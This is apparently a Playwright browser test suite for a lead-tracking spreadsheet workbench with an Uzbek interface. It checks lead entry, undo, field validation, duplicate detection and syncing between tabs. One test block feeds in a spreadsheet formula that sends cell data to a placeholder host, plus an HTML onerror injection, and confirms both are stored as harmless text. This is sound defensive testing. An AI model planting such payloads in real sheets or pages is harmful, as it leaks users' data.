// Leads in a real browser: added, taken back, refused at their fields, seen in the sheets, on the dashboard and in other tabs.

import { mkdirSync } from 'node:fs';
import { resolve } from 'node:path';
import type { Browser, FrameLocator, Page } from 'playwright-core';
import type { CellValue } from '../../host/grid/grid';
import { startWorkbench, type Workbench } from '../../host/server/workbench';
import { openChromium } from '../support/chromium';
import { mustEndWell } from '../support/daftar';
import { PATIENCE, until } from '../support/tab';

const SCREENS = resolve(__dirname, '../../.screens');
const START = { port: 0, data: null, book: null, lang: 'uz', empty: true } as const;

let browser: Browser;
let workbench: Workbench;
let page: Page;
let sidebar: FrameLocator;
const errors: string[] = [];

beforeAll(async () => {
  mkdirSync(SCREENS, { recursive: true });
  browser = await openChromium();
  workbench = await startWorkbench(START);
  mustEndWell(workbench.host.run('setUp'));
  page = await openPage(workbench.url);
  sidebar = page.frameLocator('iframe').first();
  await clickMenu('Daftar', 'Daftarni ochish');
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await workbench?.close();
});

async function openPage(url: string): Promise<Page> {
  const opened = await browser.newPage({ viewport: { width: 1366, height: 768 } });
  opened.setDefaultTimeout(PATIENCE);
  opened.on('pageerror', (error) => errors.push(error.message));
  opened.on('dialog', (dialog) => {
    errors.push(`A dialog opened: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await opened.goto(url);
  return opened;
}

async function clickMenu(...captions: readonly string[]): Promise<void> {
  for (const caption of captions) await page.getByText(caption, { exact: true }).first().click();
}

/** A cell as the model behind the screen has it. */
function cell(sheetName: string, row: number, column: number): CellValue {
  const sheet = workbench.grid.sheets().find(({ name }) => name === sheetName);
  if (!sheet) throw new Error(`No sheet "${sheetName}".`);
  return workbench.grid.read(sheet.id, { row, column, rows: 1, columns: 1 })[0]?.[0]?.value ?? null;
}

async function shows(of: Page, sheetName: string): Promise<void> {
  await of.locator('.o-sheet').filter({ hasText: sheetName }).click();
}

async function fill(lead: Readonly<Record<string, string>>): Promise<void> {
  for (const [field, text] of Object.entries(lead)) await sidebar.locator(`#lead-${field}`).fill(text);
}

async function save(): Promise<string> {
  await sidebar.locator('#panel-add button.primary').click();
  const confirmation = sidebar.locator('#panel-add [role=status]').filter({ hasText: 'Saqlandi' });
  await confirmation.waitFor();
  return confirmation.innerText();
}

describe('a lead', () => {
  it('is added in the sidebar, and row and dashboard change at once', async () => {
    await sidebar.locator('#tab-add').click();
    await fill({ contact: '90 123 45 67', name: 'Nodira Toʻrayeva', need: 'Shkaf-kupe', amount: '12 mln' });
    await page.screenshot({ path: `${SCREENS}/2-filled.png` });

    const confirmation = await save();
    await page.screenshot({ path: `${SCREENS}/3-saved.png` });

    expect(confirmation).toContain('Nodira Toʻrayeva');
    expect([cell('Mijozlar', 2, 2), cell('Bitimlar', 2, 2), cell('Koʻrsatkichlar', 5, 2)]).toEqual([
      'Nodira Toʻrayeva',
      'Nodira Toʻrayeva · 4567',
      1,
    ]);
  });

  it('leaves the phone field at hand for the next one, the rest empty', async () => {
    const focused = await sidebar.locator('#lead-contact').evaluate((field) => field === document.activeElement);

    expect([focused, await sidebar.locator('#lead-name').inputValue()]).toEqual([true, '']);
  });

  it('is taken back with one tap, corrected and saved again', async () => {
    await fill({ contact: '93 765 43 21', name: 'Jasurr' });
    await save();

    await sidebar.getByText('Ortga qaytarish').click();
    await sidebar.getByText('Ortga qaytarildi.').waitFor();
    await page.screenshot({ path: `${SCREENS}/3b-undone.png` });
    const refilled = await sidebar.locator('#lead-name').inputValue();
    const after = cell('Mijozlar', 3, 2);
    await fill({ name: 'Jasur' });
    await save();

    expect([refilled, after, cell('Mijozlar', 3, 2), cell('Mijozlar', 3, 1)]).toEqual(['Jasurr', null, 'Jasur', 'M-3']);
  });

  it('brings a warning about a phone that is already there, while it is typed', async () => {
    await fill({ contact: '8 90 123-45-67' });

    await sidebar.getByText('Bu raqam bazada bor: Nodira Toʻrayeva.').waitFor();
    await page.screenshot({ path: `${SCREENS}/4-duplicate.png` });

    await fill({ contact: '' });
    expect(cell('Mijozlar', 4, 2)).toBeNull();
  });

  it('has it said at the field what is wrong with it, and loses nothing', async () => {
    await fill({ contact: '123', name: 'Sardor', amount: 'qimmat' });
    await sidebar.locator('#panel-add button.primary').click();
    await sidebar.getByText('Telefon raqami toʻliq emas: 123.').waitFor();
    await page.screenshot({ path: `${SCREENS}/5-issues.png` });

    expect(await sidebar.getByText('Summa notoʻgʻri: qimmat.').isVisible()).toBe(true);
    expect(await sidebar.locator('#lead-name').inputValue()).toBe('Sardor');
    expect(cell('Mijozlar', 4, 2)).toBeNull();
  });
});

describe('names that attack', () => {
  const names = ['=IMPORTXML("http://x/?"&A1)', '<img src=x onerror=1>'];

  it.each(names)('%s ends up as harmless text', async (name) => {
    const row = 4 + names.indexOf(name);
    await fill({ contact: '', name, need: name, amount: '' });

    const confirmation = await save();

    const sheet = workbench.grid.sheets().find((each) => each.name === 'Mijozlar')?.id ?? 0;
    const written = workbench.grid.read(sheet, { row, column: 2, rows: 1, columns: 1 })[0]?.[0];
    expect([written?.value, written?.formula, confirmation.includes(name)]).toEqual([name, '', true]);
    expect(await sidebar.locator('img').count()).toBe(0);
  });

  it('look harmless in the grid', async () => {
    await shows(page, 'Mijozlar');
    await page.waitForTimeout(300); // The grid is a canvas: there is no element to wait for.
    await page.screenshot({ path: `${SCREENS}/6-customers.png` });

    expect(errors).toEqual([]);
  });
});

describe('two tabs of the browser', () => {
  it('see each other: what is typed in one is in the other, and fires onEdit', async () => {
    const second = await openPage(workbench.url);
    await shows(second, 'Mijozlar');
    await shows(page, 'Mijozlar');

    await typeInto(second, 'B7', 'Gulnora');
    await until(() => cell('Mijozlar', 7, 1) === 'M-6');
    await formulaBarShows(page, 'B7', 'Gulnora');
    await page.screenshot({ path: `${SCREENS}/7-second-tab.png` });
    await second.close();

    expect([cell('Mijozlar', 7, 1), cell('Mijozlar', 7, 2)]).toEqual(['M-6', 'Gulnora']);
  });
});

describe('the finished workbench', () => {
  it('shows a believable firm with sample data', async () => {
    const firm = await startWorkbench({ ...START, empty: false });
    const opened = await openPage(firm.url);
    await opened.frameLocator('iframe').first().locator('#panel-today .rows').first().waitFor();
    await opened.locator('canvas').first().waitFor();
    await opened.waitForTimeout(1_500); // The charts grow into their place; a canvas has no element to wait for.
    await opened.screenshot({ path: `${SCREENS}/8-workbench.png` });
    await opened.close();
    await firm.close();

    expect(errors).toEqual([]);
  });
});

/** Goes to a cell by the name box, as people do, and types. */
async function typeInto(of: Page, a1: string, text: string): Promise<void> {
  await goTo(of, a1);
  await of.keyboard.type(text);
  await of.keyboard.press('Enter');
}

async function goTo(of: Page, a1: string): Promise<void> {
  const nameBox = of.locator('.o-named-range-selector input');
  await nameBox.click();
  await nameBox.fill(a1);
  await nameBox.press('Enter');
}

/** Goes to the cell and waits until the formula bar shows the text, which it does a moment later. */
async function formulaBarShows(of: Page, a1: string, text: string): Promise<void> {
  await goTo(of, a1);
  await of.locator('.o-topbar-composer .o-composer').filter({ hasText: text }).waitFor();
}
